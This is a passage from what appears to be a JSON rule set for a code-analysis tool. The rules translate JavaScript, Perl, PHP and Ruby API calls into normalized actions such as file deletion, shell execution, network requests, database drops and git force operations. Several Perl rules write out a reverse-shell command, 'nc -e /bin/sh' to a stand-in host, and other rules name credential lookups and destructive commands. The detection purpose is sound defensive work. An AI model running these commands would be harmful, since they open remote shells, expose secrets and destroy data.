-pinecone-database/","@qdrant/","weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","n\
-ode-appwrite","dots-wrapper","contentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notion\
-hq/","jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","interco\
-m-client","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun\
-.S3Client","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node"},"rewrites":[["\\\\.(?:promises|default)(?=\\\\.|\
-$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=globalThis\
-|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"],["^(?:\
-bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[./])?(?\
-:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.construc\
-tor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write":"print","require":"module $0",\
-"import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0","create\
-Require":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInContext":\
-"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0","execa.execaCommand":"shell\
- $0","shelljs.exec":"shell $0","$":"shell $0","Bun.$":"shell $0","execa":"if-arg:map name $ | spawn $0 $1:args $:shell","execa.execa":"if-arg:map name $ | spawn\
- $0 $1:args $:shell","child_process.spawn":"spawn $0 $1:args $:shell","child_process.execFile":"spawn $0 $1:args $:shell","Deno.Command":"spawn $0 $1:args $:she\
-ll","child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"\
-write $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"empty-te\
-xt","Buffer.alloc":"empty-text","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0","ps-l\
-ist":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup x","k\
-eytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:path","\
-lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"made s\
-tore $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service","ssh2-\
-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomorphic-g\
-it.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.Reset.\
-reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0","Bun.\
-file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0",\
-"fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run rm $0\
-","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0","fs-e\
-xtra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s 0 $0"\
-,"Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-matches $\
-0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":"remov\
-e-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git":"made\
- git $0:baseDir","simple-git.default":"made git $0:baseDir","better-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.DatabaseSync\
-":"made database $0","bun:sqlite.Database":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -\
-r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"\
-run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls-back dirents $0 | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $\
-0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","gl\
-obby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","t\
-inyglobby.globSync":"globs $0 $:cwd","Object.entries":"pairs $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":\
-"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run setgid $0\
-","process.cwd":"value .","Deno.cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"environment\
- $0","path.join":"join-parts","path.posix.join":"join-parts","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:\
-json","http.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:host $:bod\
-y $:data $:json","axios":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:body $:da\
-ta $:json","ky":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data\
- $:json","request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host $:body $\
-:data $:json","undici.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:hostname:\
-host $:body $:data $:json","http.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:hostname:hos\
-t $:body $:data $:json","axios.get":"request GET $0:url:hostname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:json","k\
-y.get":"request GET $0:url:hostname:host $:body $:data $:json","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"request GE\
-T $0:url:hostname:host $:body $:data $:json","$.get":"request GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:hostname:hos\
-t $:body $:data $:json $1","got.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host $:body \
-$:data $:json $1","superagent.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:host $:bod\
-y $:data $:json $1","$.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body $:data $\
-:json $1","got.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","su\
-peragent.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","$.pu\
-t":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.patch":"\
-open-request PATCH $0:url:hostname:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagent.patch"\
-:"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.patch":"o\
-pen-request PATCH $0:url:hostname:host $:body $:data $:json $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.delete":"\
-open-request DELETE $0:url:hostname:host $:body $:data $:json $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","superagent.del\
-ete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","$.de\
-lete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnection":"ca\
-lls-back connect $1:host=localhost $0:port","tls.connect":"calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decode $0 $1"\
-,"Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-sign:connects made mock | made row\
-s","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"spy $0 $1 \
-$2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.createSandbox\
-":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.PostgreSq\
-lContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environment made database :memory:","pg.Client":"if-gets:container if-no-sign:reads-e\
-nvironment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":"sql $0"\
-,"bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"made connection $0","ws.WebSocket":"made connection $0","pm2\
-.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true eval $0","\
-URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back dirents $0","Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.Service":\
-"made service","node-mac.Service":"made service","memfs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.all":"va\
-lue $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"folder $0 b\
-elow","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0 append","send":"send $self $0 append",\
-"install":"if-made:service run systemctl enable --now x","end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=localhost $\
-0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":"emit $0\
- $1..","then":"then","finally":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:container valu\
-e $self","mockImplementation":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 returned\
-","mockRejectedValue":"answer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned","listen\
-":"if-made:msw if-option:onUnhandledRequest=error if-no-sign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"value $sel\
-f","text":"value $self","json":"value $self","unref":"value $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql delete-all\
- rows | if-database if-arg:name if-no-sign:limits run sql delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where={} run s\
-ql delete-all rows","getVolume":"made docker-volume","scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-made:vm-\
-script eval $origin","runInNewContext":"if-made:vm-script eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $all","unsh\
-ift":"if-list append $self $all","splice":"if-list append $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x",\
-"uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^true$ run \
-git branch -D","sendMail":"sends-files","sendCommand":"if-stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-stored progra\
-m redis-cli $all","scanStream":"if-stored entries keys","scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets:keys ru\
-n sql flush FLUSHDB | if-made:rows run sql delete-all rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run sql updat\
-e-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n \
-| if-made:git run git clean -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","execComma\
-nd":"if-made:ssh shell $0","remove":"if-made:docker-volume run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"run dock\
-er volume prune -af","drop":"if-database run sql drop-collection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawUnsafe":"\
-sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:s\
-ql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql $0:quer\
-y:sql:text","executeQuery":"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db","getDB\
-":"name db","getCollection":"name db.collection","explain":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql d\
-rop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dropDatabas\
-e run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql\
- drop-user all","dropUser":"if-database run sql drop-user $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database run sql sh\
-utdown $owner","truncate":"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":false,"sing\
-le_escapes":false,"quoting":"q","heredoc":"<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","patterns":true,"lines":"none"},"program":"perl","blocks":"braces","member_\
-operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARGV\\"":"jo\
-ined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"unknown":["STDIN"],"texts":{"$0":"./program.pl"},"rewrites":[["^&",""]],"funct\
-ions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"value .","C\
-wd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0","print":"print text","say":"print line","readline":"input","system":"if-sign:socket-she\
-ll run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.system":"i\
-f-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command \
-$all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.n\
-et 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:socket-shel\
-l run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $\
-all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm -rf $all\
-","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1\
-","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"open-per\
-l $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"names ."\
-,"LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.SSH.Perl.new":"\
-made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect":"made mongo",\
-"MongoDB.MongoClient.new":"made mongo","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.path":"join $all"},"methods":{"do":"sql $0\
-","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","capture2":"if-made:ssh command $all","pipe_out\
-":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:ssh value $self","delete":"if-made:rest r\
-equest-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form":"if-made:rest request-over POST $0 $1"\
-,"put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo value $self","ns":"if-made:mongo value \
-$self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys run sql f\
-lush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text write $self $0","spew_utf8":"if-text writ\
-e $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self","children":"if-text folder $self","slur\
-p":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":["//","#"],"block_comment":["/*","*/"],"s\
-igils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","patterns":false\
-,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_keywords":[\
-"function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment"},"sdks":["aws.","google.cloud.","stripe.","microsoftazure.","digitaloceanv2.","gi\
-thub.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbclient","route53client","sqsclient","stripeclient","mailchimpmarketing.","m\
-ailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"rewrites":[["^(?:\\\\w+\\\\.)*(file\
-system|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcach\
-ed","memcache":"made memcached","eval":"eval $0","assert":"if-arg:text eval $0","create_function":"eval $1","include":"include $0","require":"include $0","inclu\
-de_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0","shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0","proc_o\
-pen":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1",\
-"link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made\
- context $0","file":"read $0","readfile":"read $0","show_source":"read $0","highlight_file":"read $0","file_put_contents":"write $0 $1 $2","fopen":"open $0 $1",\
-"splfileobject":"open $0 $1","fwrite":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-sign:repeats run fork","pcntl_exec"\
-:"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec":"request GET $0","curl_setopt":"if-says:^DELETE$ r\
-equest DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ reque\
-st POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"dirname $0","getcwd":"value .","json\
-_decode":"parse-json $0","fgets":"input","stream_get_contents":"input","readline":"input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recurs\
-ivedirectoryiterator":"folder $0","directoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"valu\
-e $0","escapeshellcmd":"value $0","array_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1\
-","mysqli_multi_query":"sql $1","mysqli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_\
-send_query":"sql $1 | sql $0","db.delete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"r\
-un sql drop-table $0","schema.dropifexists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_pa\
-th":"join . $0","app_path":"join app $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"m\
-ade filesystem","file.deletedirectory":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"\
-if-sign:http-client made rest $all","httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","pro\
-cess.fromshellcommandline":"if-arg:text shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http\
-.withheaders":"made rest","http.withbasicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.p\
-ost":"request POST $0 $1","ssh2":"made ssh","ssh2_exec":"shell $1"},"methods":{"query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"s\
-ql $0","executeupdate":"sql $0","createquery":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"\
-made whole","getdroptablesql":"made whole","getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema"\
-:"if-kept run sql drop-schema $owner","createquerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest reque\
-st-over DELETE $0","remove":"if-made:filesystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $\
-0 $1:json:body","get":"if-made:rest request-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabas\
-e":"if-made:mongo value $self","getcollection":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries \
-keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php\
- artisan migrate:fresh","flush":"if-made:memcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","f\
-write":"send $self $0","getpathname":"value $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket \
-$0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"<<[~-]?(?:\\"(\\\\\
-w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","patterns":true,"lines":"statements"},"program":"ruby","blocks":"end","member_operators":[".","::","&."],"concatenation_operators"\
-:["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF\
-":"lines"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Octokit.","Gitlab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__\
-":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"FileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"F\
-ileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUtils.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.\
-chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print line","prin\
-t":"print text","gets":"input","readlines":"input","Rails.application":"name rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-da\
-tabase db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","A\
-ctiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","rails_application.credentials":"secret","send":"invoke $0 $1..","public_send":"invoke \
-$0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileList\
-.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made sequel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":"\
-made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","system":"command $all","exec":"command $all","spawn":"command $all","IO.popen":"command \
-$all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all","Open3.popen3":"command $all","PTY.spawn":"command $all",\
-"eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","binding.eval":"eval $0","Sidekiq.Qu\
-eue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new":"made sidekiq","Sidekiq.Queue.all"\
-:"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made mock","MockRedis.new":"made mock","D\
-ocker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries model","Mongo.Client.new":"made mo\
-ngo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clients.with_name":"made mongo","Mongoi\
-d.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sql drop-database mongoid","Mongoid.C\
-onfig.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.open":"calls-back open $0 $1","File.\
-new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Faraday.get":"request GET $0","RestCli\
-ent.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.post":"request POST $0 $1 $:body $:\
